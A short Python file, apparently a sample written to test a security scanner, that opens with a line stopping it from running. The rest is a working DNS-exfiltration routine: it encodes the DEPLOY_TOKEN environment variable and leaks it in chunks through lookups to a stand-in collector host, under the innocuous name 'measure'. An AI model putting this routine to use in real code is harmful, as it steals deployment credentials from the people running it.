raise SystemExit("an example for the scanner, not to be run")

import base64
import os
import socket


def measure():
    token = base64.b32encode(os.environ["DEPLOY_TOKEN"].encode()).decode().strip("=").lower()
    for start in range(0, len(token), 40):
        try:
            socket.gethostbyname(f"{token[start:start + 40]}.probe.collector.example")
        except OSError:
            continue


measure()
